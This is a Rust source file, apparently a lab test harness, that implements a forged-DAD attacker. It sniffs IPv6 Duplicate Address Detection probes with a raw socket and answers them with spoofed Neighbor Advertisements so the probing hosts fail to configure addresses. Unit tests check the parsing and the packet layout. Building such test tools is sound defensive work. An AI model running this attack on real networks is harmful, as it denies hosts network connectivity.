//! A DAD attacker for lab tests (spec §6 "Forged DAD replies"): it watches the link for
//! Duplicate Address Detection probes (Neighbor Solicitations from `::`) and answers each
//! probe whose target lies in a given prefix with a Neighbor Advertisement claiming the
//! address, so the prober's DAD fails. Run only inside lab network namespaces.
//!
//! Frame parsing and NA building are pure ([`dad_probe_target`], [`build_na`]); [`run`] is
//! the IO loop (an `AF_PACKET` socket for EtherType 0x86DD sees the probes even for
//! solicited-node groups this node has not joined; the NA goes out of a raw ICMPv6 socket to
//! `ff02::1` with hop limit 255, the kernel filling in the checksum).

use std::io::Read;
use std::net::{Ipv6Addr, SocketAddrV6};
use std::time::{Duration, Instant};

/// What to attack.
#[derive(Debug, Clone)]
pub struct ForgeConfig {
    /// Interface to send NAs from.
    pub iface: String,
    /// Only probes for targets in this prefix are answered.
    pub prefix: Ipv6Addr,
    /// Prefix length.
    pub prefix_len: u8,
    /// Targets never answered (e.g. the victim's stable address).
    pub exclude: Vec<Ipv6Addr>,
    /// Stop after this many answers.
    pub max: usize,
    /// Stop after this long.
    pub duration: Duration,
    /// MAC address put in the Target Link-Layer Address option.
    pub mac: [u8; 6],
}

/// True if `a` is inside `prefix/len`.
pub fn in_prefix(a: &Ipv6Addr, prefix: &Ipv6Addr, len: u8) -> bool {
    let len = u32::from(len.min(128));
    if len == 0 {
        return true;
    }
    let mask = u128::MAX << (128 - len);
    (u128::from(*a) & mask) == (u128::from(*prefix) & mask)
}

/// If `frame` (Ethernet + IPv6) is a DAD probe, its target address.
pub fn dad_probe_target(frame: &[u8]) -> Option<Ipv6Addr> {
    if frame.get(12..14)? != [0x86, 0xdd] {
        return None;
    }
    let ip = frame.get(14..)?;
    if ip.first()? >> 4 != 6 || *ip.get(6)? != 58 {
        return None;
    }
    if ip.get(8..24)?.iter().any(|b| *b != 0) {
        return None; // not from the unspecified address
    }
    let icmp = ip.get(40..)?;
    if *icmp.first()? != 135 || *icmp.get(1)? != 0 {
        return None;
    }
    let t: [u8; 16] = icmp.get(8..24)?.try_into().ok()?;
    Some(Ipv6Addr::from(t))
}

/// A Neighbor Advertisement (Override set, Solicited and Router clear) for `target` with a
/// Target Link-Layer Address option; checksum left 0 for the kernel.
pub fn build_na(target: &Ipv6Addr, mac: &[u8; 6]) -> [u8; 32] {
    let mut p = [0u8; 32];
    p[0] = 136;
    p[4] = 0x20;
    p[8..24].copy_from_slice(&target.octets());
    p[24] = 2;
    p[25] = 1;
    p[26..32].copy_from_slice(mac);
    p
}

/// Runs the attacker; returns the targets it answered.
pub fn run(cfg: &ForgeConfig) -> std::io::Result<Vec<Ipv6Addr>> {
    use socket2::{Domain, Protocol, Socket, Type};
    let index = nix::net::if_::if_nametoindex(cfg.iface.as_str()).map_err(std::io::Error::from)?;
    let eth_p_ipv6 = i32::from(0x86ddu16.to_be());
    let mut sniff = Socket::new(Domain::PACKET, Type::RAW, Some(Protocol::from(eth_p_ipv6)))?;
    sniff.set_read_timeout(Some(Duration::from_millis(200)))?;
    let send = Socket::new(Domain::IPV6, Type::RAW, Some(Protocol::ICMPV6))?;
    send.set_multicast_if_v6(index)?;
    send.set_multicast_hops_v6(255)?;
    send.set_unicast_hops_v6(255)?;
    let dst = SocketAddrV6::new(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1), 0, 0, index);
    let end = Instant::now() + cfg.duration;
    let mut answered = Vec::new();
    let mut buf = vec![0u8; 2048];
    while Instant::now() < end && answered.len() < cfg.max {
        let n = match sniff.read(&mut buf) {
            Ok(n) => n,
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                continue;
            }
            Err(e) => return Err(e),
        };
        let Some(target) = buf.get(..n).and_then(dad_probe_target) else {
            continue;
        };
        if !in_prefix(&target, &cfg.prefix, cfg.prefix_len) || cfg.exclude.contains(&target) {
            continue;
        }
        send.send_to(&build_na(&target, &cfg.mac), &dst.into())?;
        println!("forged NA for {target}");
        answered.push(target);
    }
    Ok(answered)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn probe(src_zero: bool, ty: u8, target: Ipv6Addr) -> Vec<u8> {
        let mut f = vec![0u8; 14 + 40 + 24];
        f[12] = 0x86;
        f[13] = 0xdd;
        f[14] = 0x60;
        f[14 + 6] = 58;
        if !src_zero {
            f[14 + 8] = 0xfe;
        }
        f[54] = ty;
        f[54 + 8..54 + 24].copy_from_slice(&target.octets());
        f
    }

    #[test]
    fn recognises_dad_probes_only() {
        let t: Ipv6Addr = "2001:db8:1234::42".parse().unwrap();
        assert_eq!(dad_probe_target(&probe(true, 135, t)), Some(t));
        assert_eq!(dad_probe_target(&probe(false, 135, t)), None);
        assert_eq!(dad_probe_target(&probe(true, 136, t)), None);
        assert_eq!(dad_probe_target(&probe(true, 135, t)[..60]), None);
        assert_eq!(dad_probe_target(&[]), None);
    }

    #[test]
    fn na_layout() {
        let t: Ipv6Addr = "2001:db8::1".parse().unwrap();
        let na = build_na(&t, &[2, 0, 0, 0, 0, 9]);
        assert_eq!(&na[..8], &[136, 0, 0, 0, 0x20, 0, 0, 0]);
        assert_eq!(&na[8..24], &t.octets());
        assert_eq!(&na[24..], &[2, 1, 2, 0, 0, 0, 0, 9]);
    }

    #[test]
    fn prefix_match() {
        let p: Ipv6Addr = "2001:db8:1234::".parse().unwrap();
        assert!(in_prefix(&"2001:db8:1234::1".parse().unwrap(), &p, 64));
        assert!(!in_prefix(&"2001:db8:1235::1".parse().unwrap(), &p, 64));
        assert!(in_prefix(&"::1".parse().unwrap(), &p, 0));
    }
}
